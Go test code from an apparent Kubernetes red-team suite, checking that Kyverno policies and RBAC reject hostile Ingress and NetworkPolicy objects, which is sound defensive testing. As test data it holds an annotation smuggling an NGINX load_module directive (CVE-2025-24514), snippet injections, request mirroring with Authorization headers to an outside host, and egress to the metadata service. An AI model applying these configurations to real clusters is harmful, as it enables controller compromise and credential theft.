package scenario

import (
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/util/intstr"
)

const (
	polIngress         = "restrict-ingress"
	polNetworkPolicies = "restrict-network-policies"
)

// The red team's fourth round: traffic objects an administrator writes. An Ingress is
// configuration for the one controller that serves every namespace; a NetworkPolicy can undo the
// namespace's default deny. Every bad attempt but the deployer's (refused by RBAC) was admitted
// before restrict-ingress and restrict-network-policies.

// fourthRound is appended to the red-team table by RedTeam.
func fourthRound() []Attempt {
	return append(ingressAttempts(), networkPolicyAttempts()...)
}

// ingressAttempts: an Ingress is configuration for the one ingress controller that serves every
// namespace and reads every Secret. Each attempt writes it as someone who may create Ingresses
// (the admin: the deployer's Role has none, which the first attempt shows); each was admitted
// before restrict-ingress.
func ingressAttempts() []Attempt {
	const c = "ingress"
	other := ingressOf("kube-public", "rt-shop", "shop.example.test", nil)
	// annotated is the app's Ingress with one annotation more.
	annotated := func(name, key, value string) func(Base) *unstructured.Unstructured {
		return ingressOf(Namespace, name, "api.example.test", func(i *networkingv1.Ingress) { i.Annotations[key] = value })
	}
	return []Attempt{
		{Name: "ci-creates-ingress", Class: c, What: "CI: an Ingress (the deployer's Role has none)",
			As: ci, Op: OpCreate, Object: ingressOf(Namespace, "rt-ci-ingress", "api.example.test", nil),
			Want: byRBAC(`cannot create resource "ingresses"`)},
		{Name: "ingress-configuration-snippet", Class: c, What: "a configuration-snippet annotation (NGINX directives for every namespace's controller)",
			Op: OpCreate, Object: annotated("rt-snippet", "nginx.ingress.kubernetes.io/configuration-snippet", `more_set_headers "X-Red: team";`),
			Want: byKyverno(polIngress, "configuration-snippet would write NGINX configuration")},
		{Name: "ingress-auth-url-injection", Class: c, What: "an auth-url ending one directive and starting another (CVE-2025-24514)",
			Op: OpCreate, Object: annotated("rt-auth-url", "nginx.ingress.kubernetes.io/auth-url", "http://auth.example.test/#;\nload_module /tmp/x.so;"),
			Want: byKyverno(polIngress, "annotation-value-word-blocklist")},
		{Name: "ingress-secret-of-kube-system", Class: c, What: "client certificates checked against a Secret of kube-system, which the controller would read",
			Op: OpCreate, Object: annotated("rt-tls-secret", "nginx.ingress.kubernetes.io/auth-tls-secret", "kube-system/bootstrap-token-abcdef"),
			Want: byKyverno(polIngress, "names a Secret or ConfigMap of another namespace")},
		{Name: "ingress-mirror", Class: c, What: "every request, Authorization header included, mirrored to another host",
			Op: OpCreate, Object: annotated("rt-mirror", "nginx.ingress.kubernetes.io/mirror-target", "https://collector.example.net/x"),
			Want: byKyverno(polIngress, "would copy every request")},
		{Name: "ingress-catch-all", Class: c, What: "a rule without a host (every host no other Ingress names)",
			Op: OpCreate, Object: ingressOf(Namespace, "rt-catch-all", "", nil),
			Want: byKyverno(polIngress, "every rule must name a host")},
		{Name: "ingress-host-takeover", Class: c, What: "a second Ingress for a host another namespace serves (the controller merges them)",
			Setup: []func(Base) *unstructured.Unstructured{other},
			Op:    OpCreate, Object: ingressOf(Namespace, "rt-takeover", "shop.example.test", nil),
			Want: byKyverno(polIngress, "the host shop.example.test is served by an Ingress of another namespace")},
		{Name: "ingress-snippet-added-later", Class: c, What: "a server-snippet added to an admitted Ingress",
			Setup: []func(Base) *unstructured.Unstructured{ingressOf(Namespace, "rt-later", "api.example.test", nil)},
			Op:    OpUpdate, Object: refTo("networking.k8s.io/v1", "Ingress", Namespace, "rt-later"),
			Mutate: func(u *unstructured.Unstructured) {
				a := u.GetAnnotations()
				if a == nil {
					a = map[string]string{}
				}
				a["nginx.ingress.kubernetes.io/server-snippet"] = "location /x { return 200; }"
				u.SetAnnotations(a)
			},
			Want: byKyverno(polIngress, "server-snippet would write NGINX configuration")},
		{Name: "control-ingress", Class: c, What: "an Ingress for the app's own host, with its own namespace's client CA",
			Op: OpCreate, Object: annotated("rt-good-ingress", "nginx.ingress.kubernetes.io/auth-tls-secret", Namespace+"/client-ca"),
			Want: admitted},
	}
}

// ingressOf is an Ingress routing host (none if empty) to the app's Service, changed by mutate.
func ingressOf(ns, name, host string, mutate func(*networkingv1.Ingress)) func(Base) *unstructured.Unstructured {
	return func(Base) *unstructured.Unstructured {
		class, prefix := "nginx", networkingv1.PathTypePrefix
		i := networkingv1.Ingress{
			TypeMeta:   metav1.TypeMeta{APIVersion: "networking.k8s.io/v1", Kind: "Ingress"},
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Annotations: map[string]string{}},
			Spec: networkingv1.IngressSpec{IngressClassName: &class, Rules: []networkingv1.IngressRule{{
				Host: host,
				IngressRuleValue: networkingv1.IngressRuleValue{HTTP: &networkingv1.HTTPIngressRuleValue{
					Paths: []networkingv1.HTTPIngressPath{{Path: "/", PathType: &prefix, Backend: networkingv1.IngressBackend{
						Service: &networkingv1.IngressServiceBackend{Name: "template-api", Port: networkingv1.ServiceBackendPort{Name: "http"}},
					}}},
				}},
			}}},
		}
		if mutate != nil {
			mutate(&i)
		}
		return toUnstructured(&i)
	}
}

// networkPolicyAttempts: the application namespace starts from a default deny; an allow written
// by an administrator must say whom it allows (the deployer writes none: its Role has no
// NetworkPolicies). Each was admitted before restrict-network-policies.
func networkPolicyAttempts() []Attempt {
	const c = "netpol"
	return []Attempt{
		{Name: "netpol-ingress-from-everyone", Class: c, What: "an ingress rule without from (every source, past the default deny)",
			Op: OpCreate, Object: networkPolicyOf("rt-allow-all", func(p *networkingv1.NetworkPolicy) { p.Spec.Ingress[0].From = nil }),
			Want: byKyverno(polNetworkPolicies, "an ingress rule without from admits every source")},
		{Name: "netpol-egress-to-internet", Class: c, What: "egress to 0.0.0.0/0 (the internet, and every address of the cluster)",
			Op: OpCreate, Object: networkPolicyOf("rt-egress-internet", func(p *networkingv1.NetworkPolicy) {
				p.Spec.Egress[0].To = []networkingv1.NetworkPolicyPeer{{IPBlock: &networkingv1.IPBlock{CIDR: "0.0.0.0/0"}}}
			}),
			Want: byKyverno(polNetworkPolicies, "the ipBlock 0.0.0.0/0 is wider than a /8")},
		{Name: "netpol-egress-to-metadata", Class: c, What: "egress to 169.254.0.0/16, the instance metadata service included",
			Op: OpCreate, Object: networkPolicyOf("rt-egress-metadata", func(p *networkingv1.NetworkPolicy) {
				p.Spec.Egress[0].To = []networkingv1.NetworkPolicyPeer{{IPBlock: &networkingv1.IPBlock{CIDR: "169.254.0.0/16"}}}
			}),
			Want: byKyverno(polNetworkPolicies, "holds the instance metadata service")},
		{Name: "netpol-every-namespace", Class: c, What: "ingress from an empty namespaceSelector (every namespace's pods)",
			Op: OpCreate, Object: networkPolicyOf("rt-every-namespace", func(p *networkingv1.NetworkPolicy) {
				p.Spec.Ingress[0].From[0].NamespaceSelector = &metav1.LabelSelector{}
			}),
			Want: byKyverno(polNetworkPolicies, "a namespaceSelector without a label value")},
		{Name: "ci-creates-network-policy", Class: c, What: "CI: a NetworkPolicy (the deployer's Role has none)",
			As: ci, Op: OpCreate, Object: networkPolicyOf("rt-ci-netpol", nil),
			Want: byRBAC(`cannot create resource "networkpolicies"`)},
		{Name: "control-netpol", Class: c, What: "an allow naming the ingress controller's pods and one network",
			Op: OpCreate, Object: networkPolicyOf("rt-narrow", nil),
			Want: admitted},
	}
}

// networkPolicyOf is a NetworkPolicy in the app namespace admitting the ingress controller's pods
// on 8080 and allowing HTTPS to one network, changed by mutate.
func networkPolicyOf(name string, mutate func(*networkingv1.NetworkPolicy)) func(Base) *unstructured.Unstructured {
	return func(Base) *unstructured.Unstructured {
		port := intstr.FromInt32(8080)
		https := intstr.FromInt32(443)
		tcp := corev1.ProtocolTCP
		p := networkingv1.NetworkPolicy{
			TypeMeta:   metav1.TypeMeta{APIVersion: "networking.k8s.io/v1", Kind: "NetworkPolicy"},
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: Namespace},
			Spec: networkingv1.NetworkPolicySpec{
				PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/name": "template-api"}},
				PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress, networkingv1.PolicyTypeEgress},
				Ingress: []networkingv1.NetworkPolicyIngressRule{{
					From: []networkingv1.NetworkPolicyPeer{{
						NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"kubernetes.io/metadata.name": "ingress-nginx"}},
						PodSelector:       &metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/name": "ingress-nginx"}},
					}},
					Ports: []networkingv1.NetworkPolicyPort{{Protocol: &tcp, Port: &port}},
				}},
				Egress: []networkingv1.NetworkPolicyEgressRule{{
					To:    []networkingv1.NetworkPolicyPeer{{IPBlock: &networkingv1.IPBlock{CIDR: "10.30.0.0/20"}}},
					Ports: []networkingv1.NetworkPolicyPort{{Protocol: &tcp, Port: &https}},
				}},
			},
		}
		if mutate != nil {
			mutate(&p)
		}
		return toUnstructured(&p)
	}
}
